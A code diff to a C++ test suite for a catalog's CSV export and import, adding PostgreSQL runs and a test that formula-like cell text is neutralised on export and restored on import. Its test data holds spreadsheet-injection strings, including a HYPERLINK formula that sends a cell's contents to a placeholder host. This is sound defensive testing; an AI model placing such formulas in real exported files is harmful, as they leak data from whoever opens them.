@@ -31,6 +31,19 @@ qint64 totalRows(QSqlDatabase &db)
     return rows;
 }
 
+QStringList formulaTexts()
+{
+    return {QStringLiteral("=HYPERLINK(\"http://x\"&A1,\"click\")"),
+            QStringLiteral("+1"),
+            QStringLiteral("-cmd"),
+            QStringLiteral("@SUM(A1)"),
+            QStringLiteral("\t=1"),
+            QStringLiteral("\r=1"),
+            QStringLiteral("'=already"),
+            QStringLiteral("''@twice"),
+            QStringLiteral("'plain")};
+}
+
 // A catalog with the shipped seed, an import and user rows whose text needs every
 // escape the format has: commas, quotes, line breaks, a backslash, "" and NULL.
 void fillCatalog(TempCatalog &temp)
@@ -42,25 +55,44 @@ void fillCatalog(TempCatalog &temp)
                        "('Quote \"test\", with comma', '', NULL, 'user', 'two\r\nlines'), "
                        "('\\N literally', '\\\\server\\share', 'x', 'user', ' padded ')")))
         << query.lastError().text().toStdString();
+    // Text a spreadsheet would run as a formula, and text that already looks guarded.
+    QSqlQuery formulas(temp.db());
+    formulas.prepare(QStringLiteral("INSERT INTO sources (title, publisher, kind, notes) "
+                                    "VALUES (?, ?, 'user', ?)"));
+    for (const QString &text : formulaTexts()) {
+        formulas.addBindValue(text);
+        formulas.addBindValue(text);
+        formulas.addBindValue(text);
+        ASSERT_TRUE(formulas.exec()) << formulas.lastError().text().toStdString();
+    }
     ASSERT_TRUE(query.exec(QStringLiteral(
         "INSERT INTO scenarios (name, json, created, modified) VALUES "
         "('mine', '{\"a\": [1, 2]}', '2026-07-01T09:00:00Z', '2026-07-02T10:00:00Z')")));
-    ASSERT_TRUE(query.exec(QStringLiteral(
+    // 0.1 + 0.2 computed here and bound: PostgreSQL would add the literals exactly.
+    QSqlQuery price(temp.db());
+    price.prepare(QStringLiteral(
         "INSERT INTO price_observations (instance_type_id, region, purchase_model, hourly_usd, "
-        "observed_date, source_id) SELECT id, 'eu-west-1', 'on_demand', 0.1 + 0.2, "
-        "'2026-07-01', (SELECT max(id) FROM sources) FROM instance_types LIMIT 1")));
+        "observed_date, source_id) SELECT id, 'eu-west-1', 'on_demand', ?, "
+        "'2026-07-01', (SELECT max(id) FROM sources) FROM instance_types ORDER BY id LIMIT 1"));
+    const double inexact = 0.1;
+    price.addBindValue(inexact + 0.2);
+    ASSERT_TRUE(price.exec()) << price.lastError().text().toStdString();
 }
 
 } // namespace
 
-TEST(CatalogCsv, ExportImportExportIsByteIdentical)
+// Every case runs on SQLite and on PostgreSQL.
+class CatalogCsvTest : public BackendTest
+{};
+
+TEST_P(CatalogCsvTest, ExportImportExportIsByteIdentical)
 {
-    TempCatalog original(CatalogDatabase::Seeding::Load);
+    TempCatalog original(CatalogDatabase::Seeding::Load, GetParam());
     fillCatalog(original);
     const QString first = original.dir.filePath(QStringLiteral("first"));
     ASSERT_TRUE(CatalogCsv::exportTo(*original.catalog, first).ok());
 
-    TempCatalog empty;
+    TempCatalog empty(CatalogDatabase::Seeding::Skip, GetParam());
     const ImportReport report = CatalogCsv::importFrom(*empty.catalog, first);
     ASSERT_FALSE(report.refused) << report.message.toStdString();
     EXPECT_EQ(report.rowsRejected, 0) << report.rejections.join('\n').toStdString();
@@ -82,9 +114,53 @@ TEST(CatalogCsv, ExportImportExportIsByteIdentical)
                     .contains(",0.30000000000000004,"));
 }
 
-TEST(CatalogCsv, ReimportingAddsNothingAndFollowsExistingRows)
+// OWASP's advice for every text cell that starts like a formula: a leading quote, and
+// the field quoted. The import drops exactly that quote, so the texts come back as they
+// were (the byte-identical round trip above holds these rows too).
+TEST_P(CatalogCsvTest, NeutralisesFormulaTextAndImportRestoresIt)
 {
-    TempCatalog original(CatalogDatabase::Seeding::Load);
+    TempCatalog original(CatalogDatabase::Seeding::Skip, GetParam());
+    fillCatalog(original);
+    QSqlQuery query(original.db());
+    // Numbers are never guarded: a negative one stays a number.
+    ASSERT_TRUE(query.exec(QStringLiteral("INSERT INTO porting_profiles (scenario, weeks_low, "
+                                          "source_id) SELECT '-negative', -2.5, max(id) FROM "
+                                          "sources")));
+    const QString directory = original.dir.filePath(QStringLiteral("export"));
+    ASSERT_TRUE(CatalogCsv::exportTo(*original.catalog, directory).ok());
+    const QByteArray sources = readAll(QDir(directory).filePath(QStringLiteral("sources.csv")));
+    for (const char *field : {R"x("'=HYPERLINK(""http://x""&A1,""click"")")x", R"("'+1")",
+                              R"("'-cmd")", R"x("'@SUM(A1)")x", "\"'\t=1\"", "\"'\r=1\"",
+                              R"("''=already")", R"("'''@twice")", ",'plain,"})
+        EXPECT_TRUE(sources.contains(field)) << field << "\n" << sources.toStdString();
+    for (const char *live : {",=", ",+", ",@", ",-c", "\n=", "\n+", "\n@"})
+        EXPECT_FALSE(sources.contains(live)) << live;
+    EXPECT_TRUE(readAll(QDir(directory).filePath(QStringLiteral("porting_profiles.csv")))
+                    .contains(R"(,"'-negative",-2.5,)"));
+
+    TempCatalog copy(CatalogDatabase::Seeding::Skip, GetParam());
+    const ImportReport report = CatalogCsv::importFrom(*copy.catalog, directory);
+    ASSERT_FALSE(report.refused) << report.message.toStdString();
+    EXPECT_EQ(report.rowsRejected, 0) << report.rejections.join('\n').toStdString();
+    QSqlQuery titles(copy.db());
+    ASSERT_TRUE(titles.exec(
+        QStringLiteral("SELECT title, publisher FROM sources WHERE notes = title ORDER BY id")));
+    QStringList imported;
+    while (titles.next()) {
+        EXPECT_EQ(titles.value(0), titles.value(1));
+        imported << titles.value(0).toString();
+    }
+    EXPECT_EQ(imported, formulaTexts());
+    QSqlQuery profile(copy.db());
+    ASSERT_TRUE(profile.exec(QStringLiteral("SELECT scenario, weeks_low FROM porting_profiles")) &&
+                profile.next());
+    EXPECT_EQ(profile.value(0).toString(), QStringLiteral("-negative"));
+    EXPECT_EQ(profile.value(1).toDouble(), -2.5);
+}
+
+TEST_P(CatalogCsvTest, ReimportingAddsNothingAndFollowsExistingRows)
+{
+    TempCatalog original(CatalogDatabase::Seeding::Load, GetParam());
     fillCatalog(original);
     const QString directory = original.dir.filePath(QStringLiteral("export"));
     ASSERT_TRUE(CatalogCsv::exportTo(*original.catalog, directory).ok());
@@ -97,7 +173,7 @@ TEST(CatalogCsv, ReimportingAddsNothingAndFollowsExistingRows)
     EXPECT_EQ(totalRows(original.db()), before);
 
     // Into a catalog whose ids differ: references follow the rows, not the numbers.
-    TempCatalog shifted;
+    TempCatalog shifted(CatalogDatabase::Seeding::Skip, GetParam());
     QSqlQuery query(shifted.db());
     ASSERT_TRUE(query.exec(QStringLiteral("INSERT INTO sources (title, kind) VALUES ('taken id 1', "
                                           "'user'), ('taken id 2', 'user')")));
@@ -111,9 +187,9 @@ TEST(CatalogCsv, ReimportingAddsNothingAndFollowsExistingRows)
               count(original.db(), schema::priceObservations::kTable));
 }
 
-TEST(CatalogCsv, RefusesDirectoriesThatAreNotAnExportBeforeWritingAnything)
+TEST_P(CatalogCsvTest, RefusesDirectoriesThatAreNotAnExportBeforeWritingAnything)
 {
-    TempCatalog temp;
+    TempCatalog temp(CatalogDatabase::Seeding::Skip, GetParam());
     const QString directory = temp.dir.filePath(QStringLiteral("bad"));
     QDir().mkpath(directory);
     EXPECT_TRUE(CatalogCsv::importFrom(*temp.catalog, directory).refused);
@@ -133,9 +209,9 @@ TEST(CatalogCsv, RefusesDirectoriesThatAreNotAnExportBeforeWritingAnything)
     EXPECT_EQ(count(temp.db(), schema::sources::kTable), 0);
 }
 
-TEST(CatalogCsv, RejectsBadRowsWithTheirLineAndCancelRollsBack)
+TEST_P(CatalogCsvTest, RejectsBadRowsWithTheirLineAndCancelRollsBack)
 {
-    TempCatalog temp;
+    TempCatalog temp(CatalogDatabase::Seeding::Skip, GetParam());
     const QString directory = temp.dir.filePath(QStringLiteral("rows"));
     QDir().mkpath(directory);
     QFile sources(QDir(directory).filePath(QStringLiteral("sources.csv")));
@@ -153,21 +229,21 @@ TEST(CatalogCsv, RejectsBadRowsWithTheirLineAndCancelRollsBack)
     std::atomic<bool> cancel{true};
     ImportOptions options;
     options.cancel = &cancel;
-    TempCatalog other;
+    TempCatalog other(CatalogDatabase::Seeding::Skip, GetParam());
     EXPECT_TRUE(CatalogCsv::importFrom(*other.catalog, directory, options).cancelled);
     EXPECT_EQ(count(other.db(), schema::sources::kTable), 0);
 }
 
 // importFiles is what importFrom runs on the directory's files: over buffers (what the
 // fuzz target passes), in any order and through a small read buffer, the same rows land.
-TEST(CatalogCsv, ImportFilesOverBuffersMatchesTheDirectoryImport)
+TEST_P(CatalogCsvTest, ImportFilesOverBuffersMatchesTheDirectoryImport)
 {
-    TempCatalog original(CatalogDatabase::Seeding::Load);
+    TempCatalog original(CatalogDatabase::Seeding::Load, GetParam());
     fillCatalog(original);
     const QString directory = original.dir.filePath(QStringLiteral("export"));
     ASSERT_TRUE(CatalogCsv::exportTo(*original.catalog, directory).ok());
 
-    TempCatalog fromDirectory;
+    TempCatalog fromDirectory(CatalogDatabase::Seeding::Skip, GetParam());
     const ImportReport expected = CatalogCsv::importFrom(*fromDirectory.catalog, directory);
     ASSERT_FALSE(expected.refused) << expected.message.toStdString();
 
@@ -180,7 +256,7 @@ TEST(CatalogCsv, ImportFilesOverBuffersMatchesTheDirectoryImport)
         buffers.back()->setData(readAll(QDir(directory).filePath(table + QStringLiteral(".csv"))));
         files.push_back({table, table + QStringLiteral(".csv"), buffers.back().get(), 64});
     }
-    TempCatalog fromBuffers;
+    TempCatalog fromBuffers(CatalogDatabase::Seeding::Skip, GetParam());
     const ImportReport report =
         CatalogCsv::importFiles(*fromBuffers.catalog, files, QStringLiteral("buffers"));
     ASSERT_FALSE(report.refused) << report.message.toStdString();
@@ -210,3 +286,5 @@ TEST(CatalogCsv, ImportFilesOverBuffersMatchesTheDirectoryImport)
             .refused);
     EXPECT_EQ(totalRows(fromBuffers.db()), before);
 }
+
+ACCELDECIDE_ON_EVERY_BACKEND(CatalogCsvTest);
